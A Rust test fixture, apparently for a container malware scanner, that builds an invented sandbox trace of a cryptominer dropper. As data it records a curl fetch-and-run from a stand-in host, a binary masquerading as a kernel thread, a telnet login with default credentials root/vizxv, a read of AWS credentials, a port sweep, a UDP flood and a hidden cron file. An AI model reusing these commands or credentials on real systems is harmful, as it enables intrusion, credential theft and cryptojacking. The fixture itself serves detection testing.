//! A hand-made run for tests of the outputs: a dropper that mines, tries doors and leaves traces. Every value is invented.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use model::{
    Canary, CapturedFile, Category, Confidence, Digest, EndReason, Event, Finding, Location, ScanReport, Severity,
    Trace, TraceEnd, TraceHead, Weight, What, trace::TRACE_SCHEMA,
};
use serde_json::Value;

use super::{miner, observation};

fn exec(path: &str, line: &str, parent: u32, written: bool) -> What {
    What::Exec {
        path: path.to_owned(),
        arguments: line.split(' ').map(str::to_owned).collect(),
        environment: vec!["PATH=/usr/bin:/bin".to_owned()],
        parent,
        user: 0,
        written,
        nameless: false,
        standard_input: None,
        standard_output: None,
    }
}

fn begin(flow: u64, protocol: &str, remote: &str, name: Option<&str>) -> What {
    What::FlowStart {
        flow,
        protocol: protocol.to_owned(),
        local_port: 40_000,
        remote: remote.to_owned(),
        name: name.map(str::to_owned),
        accepted: true,
        inbound: false,
    }
}

fn end(flow: u64, service: &str, head: &str, canaries: &[&str]) -> What {
    What::FlowEnd {
        flow,
        service: service.to_owned(),
        bytes_out: 440,
        bytes_in: 1_250,
        packets_out: 9,
        head: STANDARD.encode(head),
        canaries: canaries.iter().map(|&kind| kind.to_owned()).collect(),
    }
}

fn stratum(flow: u64, method: &str, share: bool) -> What {
    What::Stratum {
        flow,
        dialect: "login".to_owned(),
        method: method.to_owned(),
        login: "4AbInventedWallet".to_owned(),
        worker: "rig7".to_owned(),
        agent: "XMRig/6.21.0".to_owned(),
        share,
    }
}

fn story() -> Vec<(u64, u32, What)> {
    let url = "http://files.example.net/kworker".to_owned();
    let path = || "/tmp/.x/kworker".to_owned();
    let usage = |cpu_ms| What::Usage { cpu_ms, memory_bytes: 48_000_000, tasks: 3, skipped_ms: 0 };
    let http = What::Http {
        flow: 2,
        method: "GET".to_owned(),
        url,
        agent: "curl/8.5.0".to_owned(),
        body_bytes: 0,
        body_head: String::new(),
        status: 200,
        content: "elf".to_owned(),
        answer: Some(Digest::of(b"served")),
    };
    let dns = |flow, name: &str, answer: &[&str]| What::Dns {
        flow,
        name: name.to_owned(),
        record: "A".to_owned(),
        answer: answer.iter().map(|&it| it.to_owned()).collect(),
    };
    let login = What::Login {
        flow: 5,
        service: "telnet".to_owned(),
        user: "root".to_owned(),
        password: "vizxv".to_owned(),
        accepted: false,
    };
    let sweep = What::Sweep { protocol: "tcp".to_owned(), ports: vec![23, 2_323], targets: 240, over_ms: 1_900 };
    let flood = What::Flood {
        shape: "udp".to_owned(),
        target: "203.0.113.9:80".to_owned(),
        name: None,
        packets: 3_000,
        bytes: 3_072_000,
        over_ms: 800,
        forged_sources: 12,
    };
    vec![
        (0, 1, exec("/bin/dash", "/bin/sh /opt/start.sh", 0, false)),
        (1_600, 0, usage(4)),
        (12_000, 1, What::Fork { child: 7, thread: false }),
        (14_000, 7, exec("/usr/bin/curl", "curl -so /tmp/.x/kworker http://files.example.net/kworker", 1, false)),
        (20_000, 0, begin(1, "udp", "8.8.8.8:53", None)),
        (21_000, 0, dns(1, "files.example.net", &["198.18.7.3"])),
        (30_000, 0, begin(2, "tcp", "198.18.7.3:80", Some("files.example.net"))),
        (44_000, 0, http),
        (52_000, 7, What::Write { path: path(), bytes: 2_310_144, calls: 36, head: STANDARD.encode("\x7fELF") }),
        (60_000, 0, end(2, "http", "GET /kworker HTTP/1.1\r\nHost: files.example.net\r\n", &[])),
        (61_000, 7, What::Exit { code: 0, signal: 0, cpu_ms: 12 }),
        (70_000, 1, What::Chmod { path: path(), mode: Some(0o755), result: 0 }),
        (80_000, 1, What::Fork { child: 8, thread: false }),
        (82_000, 8, exec("/tmp/.x/kworker", "[kworker/u8:2]", 1, true)),
        (90_000, 8, What::Unlink { path: path(), result: 0 }),
        (120_000, 0, dns(1, "pool.example.net", &["198.18.9.9"])),
        (130_000, 0, begin(3, "tcp", "198.18.9.9:3333", Some("pool.example.net"))),
        (140_000, 0, stratum(3, "login", false)),
        (1_002_000, 0, usage(830)),
        (2_003_000, 0, usage(1_790)),
        (2_310_000, 0, stratum(3, "submit", true)),
        (2_400_000, 0, end(3, "stratum", r#"{"id":1,"method":"login"}"#, &[])),
        (2_410_000, 0, begin(4, "tcp", "198.18.9.9:3333", Some("pool.example.net"))),
        (2_500_000, 0, end(4, "stratum", r#"{"id":1,"method":"login"}"#, &[])),
        (2_600_000, 1, What::Fork { child: 9, thread: false }),
        (2_610_000, 9, exec("/usr/bin/busybox", "telnet 198.51.100.20", 1, false)),
        (2_700_000, 0, begin(5, "tcp", "198.51.100.20:23", None)),
        (2_720_000, 0, login),
        (2_800_000, 0, end(5, "telnet", "root\r\nvizxv\r\n", &["aws-key"])),
        (3_004_000, 0, usage(2_640)),
        (
            3_100_000,
            9,
            What::Open {
                path: "/root/.aws/credentials".to_owned(),
                read: true,
                write: false,
                create: false,
                truncate: false,
                result: 3,
            },
        ),
        (3_300_000, 0, sweep),
        (3_500_000, 0, What::Refused { what: "mount".to_owned(), detail: "proc at /mnt: not permitted".to_owned() }),
        (3_600_000, 0, flood),
        (3_700_000, 0, What::Message { flow: 5, service: "telnet".to_owned(), text: "cat /proc/cpuinfo".to_owned() }),
        (3_800_000, 0, What::Poke { what: "connect to port 8080".to_owned() }),
        (4_005_000, 0, usage(3_420)),
        (4_010_000, 8, What::Exit { code: 0, signal: 9, cpu_ms: 3_300 }),
    ]
}

fn trace() -> Trace {
    let event = |(number, (at_us, process, what))| Event { sequence: number, at_us, process, what };
    let file = |path: &str, size, executed, deleted| CapturedFile {
        path: path.to_owned(),
        sha256: Digest::of(path.as_bytes()),
        size,
        mode: 0o755,
        executed,
        deleted,
        cut: None,
    };
    Trace {
        head: TraceHead {
            schema: TRACE_SCHEMA.to_owned(),
            run: "1".to_owned(),
            subject: Digest::of(b"ran manifest"),
            command: vec!["/bin/sh".to_owned(), "/opt/start.sh".to_owned()],
            purpose: "entry point".to_owned(),
            clock_shift_seconds: 0,
            sleeps_skipped: true,
            isolation: "namespace".to_owned(),
            sensor: "bpf".to_owned(),
            network: "tun".to_owned(),
            blind_spots: vec!["operations through io_uring are seen by their number, without paths".to_owned()],
            started_at: 1_795_407_500,
            canaries: vec![Canary {
                kind: "aws-key".to_owned(),
                path: Some("/root/.aws/credentials".to_owned()),
                mark: "AKIAINVENTED".to_owned(),
            }],
            environment: vec!["PATH=/usr/bin:/bin".to_owned()],
        },
        events: (1..).zip(story()).map(event).collect(),
        end: TraceEnd {
            reason: EndReason::Certain,
            duration_ms: 4_010,
            start_overhead_us: 279_000,
            cpu_ms: 3_420,
            events_seen: 9_540,
            events_lost: 3,
            events_folded: 2_900,
            packets_out: 3_280,
            packets_in: 180,
            packets_lost: 0,
            escapes_refused: 1,
            files: vec![file("/tmp/.x/kworker", 2_310_144, true, true), file("/etc/cron.d/.kworker", 44, false, false)],
            problems: vec!["one file was larger than what is taken".to_owned()],
        },
    }
}

/// A miner that was run: twice, the second time with its date moved on, when it did not start.
#[must_use]
pub fn ran() -> ScanReport {
    let mut report = miner();
    report.image.reference = "registry.example.org/team/notebook:9".to_owned();
    report.image.manifest = Some(Digest::of(b"ran manifest"));
    report.findings.truncate(1);
    report.problems.clear();
    let at = |sequence| Location::Event { run: "1".to_owned(), sequence };
    let mut mines =
        observation("pool-login", "Logs in at a mining pool", Category::Cryptominer, Weight::Proof, Severity::Critical);
    mines.confidence = Confidence::Certain;
    mines.techniques = vec!["T1496".to_owned()];
    mines.summary = "4AbInventedWallet at pool.example.net:3333, then a share".to_owned();
    let mut drops = observation(
        "drop-run-delete",
        "Runs what it downloaded, and deletes it",
        Category::Backdoor,
        Weight::Sign,
        Severity::Medium,
    );
    drops.summary = "/tmp/.x/kworker from http://files.example.net/kworker".to_owned();
    let mut knocks =
        observation("address-sweep", "Knocks on many addresses", Category::Worm, Weight::Sign, Severity::Medium);
    knocks.summary = "240 addresses, ports 23 and 2323".to_owned();
    let mut file = observation(
        "miner-binary",
        "Program that speaks Stratum",
        Category::Cryptominer,
        Weight::Proof,
        Severity::Critical,
    );
    file.summary = "ELF with mining.subscribe and 11 more".to_owned();
    let captured = Location::Captured {
        run: "1".to_owned(),
        path: "/tmp/.x/kworker".to_owned(),
        sha256: Digest::of(b"/tmp/.x/kworker"),
    };
    report.findings.extend([
        Finding::new(mines, at(18), true),
        Finding::new(drops, at(14), true),
        Finding::new(knocks, at(32), true),
        Finding::new(file, captured, true),
    ]);
    report.verdict.reasons.truncate(1);
    report.verdict.reasons[0].findings = report.findings.iter().take(2).map(|finding| finding.id.clone()).collect();
    let first = trace();
    let mut second = first.clone();
    second.head.run = "2".to_owned();
    second.head.purpose = "shifted date".to_owned();
    second.head.clock_shift_seconds = 45 * 86_400;
    second.events.clear();
    second.end.reason = EndReason::NotStarted { why: "the sandbox was asked to stop".to_owned() };
    second.end.files.clear();
    report.runs = vec![first, second];
    report
}

/// The trace with `poison` appended to every text in it that is not a word of ours.
#[must_use]
pub(in crate::output) fn poisoned(trace: &Trace, poison: &str) -> Trace {
    let mut value = serde_json::to_value(trace).expect("serialises");
    poison_value("", &mut value, poison);
    serde_json::from_value(value).expect("stays a trace")
}

fn poison_value(key: &str, value: &mut Value, poison: &str) {
    const OURS: [&str; 6] = ["event", "kind", "cut", "standard_input", "standard_output", "stream"];
    match value {
        Value::String(text) if key == "head" => *text = STANDARD.encode(poison),
        Value::String(text) if !OURS.contains(&key) && !text.starts_with("sha256:") => text.push_str(poison),
        Value::Array(values) => values.iter_mut().for_each(|value| poison_value(key, value, poison)),
        Value::Object(fields) => fields.iter_mut().for_each(|(key, value)| poison_value(key, value, poison)),
        _ => {}
    }
}
